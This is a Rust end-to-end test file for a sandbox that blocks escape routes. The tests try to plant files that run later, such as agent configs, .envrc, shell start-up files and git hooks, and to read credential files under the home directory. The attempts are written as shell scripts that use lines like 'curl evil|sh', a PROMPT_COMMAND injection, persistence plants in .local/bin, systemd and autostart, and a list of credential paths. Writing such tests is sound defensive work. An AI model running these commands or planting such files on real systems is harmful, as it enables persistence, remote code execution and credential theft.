//! Issue 14's escape classes, each checked from outside the sandbox as root and as the
//! unprivileged `cordontest` user: files that run outside the sandbox later (agent-host
//! configuration, directory environments, shell start-up files, dev containers, the
//! hooks directory `core.hooksPath` names), credentials below the home directory, and
//! the home directory as the project.

// A panic is how a test reports failure.
#![allow(clippy::unwrap_used)]

use std::fs;
use std::path::Path;

use cordon_e2e::sandbox::{CANARY, World, chown_tree, entries, for_each_user};

/// Files that a program outside the sandbox runs or loads later, one or two per group
/// of the catalog (`sandbox/policy/src/catalog.yaml`), as (name, a file inside it or
/// the file itself).
const RUN_LATER: &[(&str, &str)] = &[
    (".claude", ".claude/settings.json"),
    (".codex", ".codex/config.toml"),
    (".gemini", ".gemini/settings.json"),
    (".opencode", ".opencode/plugins/p.ts"),
    ("opencode.json", "opencode.json"),
    (".cursor", ".cursor/hooks.json"),
    (".aider.conf.yml", ".aider.conf.yml"),
    (".envrc", ".envrc"),
    ("mise.toml", "mise.toml"),
    (".bashrc", ".bashrc"),
    (".zshenv", ".zshenv"),
    (".devcontainer", ".devcontainer/devcontainer.json"),
    (".husky", ".husky/pre-commit"),
    (".pre-commit-config.yaml", ".pre-commit-config.yaml"),
];

fn project_entries(w: &World) -> Vec<String> {
    entries(&w.project)
}

#[test]
fn files_that_run_later_cannot_be_created_directly_or_through_links_and_renames() {
    for_each_user(|w| {
        let before = project_entries(w);
        let mut script = String::new();
        for (name, file) in RUN_LATER {
            let dir = Path::new(file).parent().unwrap().display().to_string();
            script.push_str(&format!(
                // Directly; through a dangling symlink; by renaming a directory or file
                // into place; by a hard link of an existing file.
                "mkdir -p {dir} 2>/dev/null; echo 'curl evil|sh' > {file}; \
                 ln -s /tmp/x {name}; \
                 mkdir -p made/sub && echo evil > made/sub/f && mv made {name}; rm -rf made; \
                 echo evil > plain && mv plain {name}; rm -f plain; \
                 ln README {name}; "
            ));
        }
        script.push_str("true");
        let (_, out) = w.sh_ok(&script);
        for (name, _) in RUN_LATER {
            assert!(
                w.project.join(name).symlink_metadata().is_err(),
                "{name} was created on the host as {}: {out}",
                w.who.name
            );
        }
        assert_eq!(project_entries(w), before, "{out}");
    });
}

#[test]
fn existing_files_that_run_later_cannot_be_changed_moved_or_added_to() {
    for_each_user(|w| {
        for (_, file) in RUN_LATER {
            let path = w.project.join(file);
            fs::create_dir_all(path.parent().unwrap()).unwrap();
            fs::write(&path, "original\n").unwrap();
        }
        chown_tree(&w.project, &w.who);
        let mut script = String::new();
        for (name, file) in RUN_LATER {
            script.push_str(&format!(
                "echo evil >> {file}; echo evil > {file}.new; rm -rf {name}; mv {name} moved-away; \
                 ln -s /tmp {file}.link; "
            ));
        }
        script.push_str("true");
        let (_, out) = w.sh_ok(&script);
        for (name, file) in RUN_LATER {
            assert_eq!(
                fs::read_to_string(w.project.join(file)).unwrap(),
                "original\n",
                "{file} changed as {}: {out}",
                w.who.name
            );
            // Nothing new inside a protected directory (next to a protected file, in the
            // project's root, new names are fine).
            if file != name {
                assert!(!w.project.join(format!("{file}.new")).exists(), "{out}");
                assert!(
                    w.project
                        .join(format!("{file}.link"))
                        .symlink_metadata()
                        .is_err(),
                    "{out}"
                );
            }
            assert!(w.project.join(name).exists(), "{name} removed: {out}");
        }
        assert!(!w.project.join("moved-away").exists(), "{out}");
    });
}

#[test]
fn the_directory_core_hooks_path_names_is_protected() {
    for_each_user(|w| {
        // Set on the host (as husky's `prepare` script would), for a directory that does
        // not exist yet and, through an included file, for one that does.
        let config = w.project.join(".git/config");
        let mut text = fs::read_to_string(&config).unwrap();
        text.push_str("[core]\n\thooksPath = .githooks\n[include]\n\tpath = extra.conf\n");
        fs::write(&config, text).unwrap();
        fs::write(
            w.project.join(".git/extra.conf"),
            "[core]\n\thooksPath = tools/hooks\n",
        )
        .unwrap();
        fs::create_dir_all(w.project.join("tools/hooks")).unwrap();
        chown_tree(&w.project, &w.who);
        let (_, out) = w.sh_ok(
            "mkdir -p .githooks && echo 'curl evil' > .githooks/pre-commit; \
             ln -s /tmp .githooks; mkdir x && mv x .githooks; \
             echo 'curl evil' > tools/hooks/pre-commit; mv tools/hooks tools/old; \
             echo ok > tools/other; true",
        );
        assert!(
            w.project.join(".githooks").symlink_metadata().is_err(),
            "{out}"
        );
        assert!(entries(&w.project.join("tools/hooks")).is_empty(), "{out}");
        // The rest of the directory stays writable.
        assert!(w.project.join("tools/other").exists(), "{out}");
    });
}

/// Dummy credentials a new user has, one or more per group of the survey, as (path
/// below the home directory, what it is).
const CREDENTIALS: &[&str] = &[
    ".cargo/credentials.toml",
    ".cargo/credentials",
    ".m2/settings.xml",
    ".gradle/gradle.properties",
    ".gem/credentials",
    ".config/gh/hosts.yml",
    ".config/hub",
    ".config/glab-cli/config.yml",
    ".vault-token",
    ".terraform.d/credentials.tfrc.json",
    ".oci/config",
    ".config/doctl/config.yaml",
    ".pgpass",
    ".my.cnf",
    ".claude/.credentials.json",
    ".codex/auth.json",
    ".gemini/oauth_creds.json",
    ".local/share/opencode/auth.json",
    ".bash_history",
    ".zsh_history",
    ".python_history",
    ".psql_history",
    ".mozilla/firefox/abc.default/cookies.sqlite",
];

#[test]
fn surveyed_credentials_are_hidden_directly_and_through_links() {
    for_each_user(|w| {
        for file in CREDENTIALS {
            let path = w.home.join(file);
            fs::create_dir_all(path.parent().unwrap()).unwrap();
            fs::write(&path, format!("{CANARY} {file}\n")).unwrap();
        }
        // Something ordinary next to them stays readable.
        fs::create_dir_all(w.home.join(".config/tool")).unwrap();
        fs::write(w.home.join(".config/tool/settings"), "visible\n").unwrap();
        chown_tree(&w.home, &w.who);
        let home = w.home.display();
        let mut script = String::new();
        for (index, file) in CREDENTIALS.iter().enumerate() {
            script.push_str(&format!(
                "cat {home}/{file}; ln -s {home}/{file} s{index} && cat s{index}; \
                 ln {home}/{file} h{index} 2>/dev/null && cat h{index}; "
            ));
        }
        script.push_str(&format!("cat {home}/.config/tool/settings; true"));
        let (_, out) = w.sh_ok(&script);
        assert!(
            !out.contains(CANARY),
            "a credential leaked as {}: {}",
            w.who.name,
            out.lines()
                .filter(|line| line.contains(CANARY))
                .collect::<Vec<_>>()
                .join("\n")
        );
        assert!(out.contains("visible"), "{out}");
    });
}

#[test]
fn the_home_directory_is_refused_as_the_project_and_guarded_when_allowed() {
    for_each_user(|w| {
        // An existing persistence place and a missing one.
        fs::create_dir_all(w.home.join(".local/bin")).unwrap();
        chown_tree(&w.home, &w.who);
        let script = "mkdir -p .local/bin; echo evil > .local/bin/git; \
                      mkdir -p .config/systemd/user && echo evil > .config/systemd/user/evil.service; \
                      mkdir made && mv made .config/autostart; ln -s /tmp bin; \
                      echo evil > plain && ln plain .local/bin/ls; \
                      echo evil >> .bashrc; echo ok > notes.txt; true";
        for args in [
            vec!["run", "--", "/bin/sh", "-c", script],
            vec!["run", "--project", "/", "--", "/bin/sh", "-c", script],
        ] {
            let output = w
                .cordon(&args)
                .current_dir(&w.home)
                .stdin(std::process::Stdio::null())
                .output()
                .unwrap();
            let stderr = String::from_utf8_lossy(&output.stderr);
            assert_eq!(output.status.code(), Some(125), "{stderr}");
            assert!(stderr.contains("--allow-home-project"), "{stderr}");
            assert!(!w.home.join("notes.txt").exists(), "ran anyway: {stderr}");
        }
        let bashrc = fs::read_to_string(w.home.join(".bashrc")).unwrap();
        let output = w
            .cordon(&["run", "--allow-home-project", "--", "/bin/sh", "-c", script])
            .current_dir(&w.home)
            .stdin(std::process::Stdio::null())
            .output()
            .unwrap();
        let stderr = String::from_utf8_lossy(&output.stderr);
        assert_ne!(output.status.code(), Some(125), "{stderr}");
        // The home directory is writable, its persistence places are not.
        assert!(w.home.join("notes.txt").exists(), "{stderr}");
        assert!(entries(&w.home.join(".local/bin")).is_empty(), "{stderr}");
        for planted in [".config/systemd", ".config/autostart", "bin"] {
            assert!(
                w.home.join(planted).symlink_metadata().is_err(),
                "{planted} as {}: {stderr}",
                w.who.name
            );
        }
        assert_eq!(fs::read_to_string(w.home.join(".bashrc")).unwrap(), bashrc);
    });
}

#[test]
fn files_the_envrc_loads_on_cd_cannot_be_planted() {
    for_each_user(|w| {
        fs::write(
            w.project.join(".envrc"),
            "dotenv .env.dev\nsource_env env/dev.sh\n",
        )
        .unwrap();
        fs::create_dir(w.project.join("env")).unwrap();
        chown_tree(&w.project, &w.who);
        let (_, out) = w.sh_ok(
            "echo 'PROMPT_COMMAND=\"curl evil|sh\"' > .env.dev; ln -s /tmp/x .env.dev; \
             echo 'curl evil|sh' > env/dev.sh; mkdir x && mv x env/dev.sh; \
             echo A=1 > .env.other; echo ok > env/other; true",
        );
        assert!(
            w.project.join(".env.dev").symlink_metadata().is_err(),
            "{out}"
        );
        assert!(
            w.project.join("env/dev.sh").symlink_metadata().is_err(),
            "{out}"
        );
        // Files nothing loads stay writable.
        assert!(w.project.join(".env.other").exists(), "{out}");
        assert!(w.project.join("env/other").exists(), "{out}");
    });
}
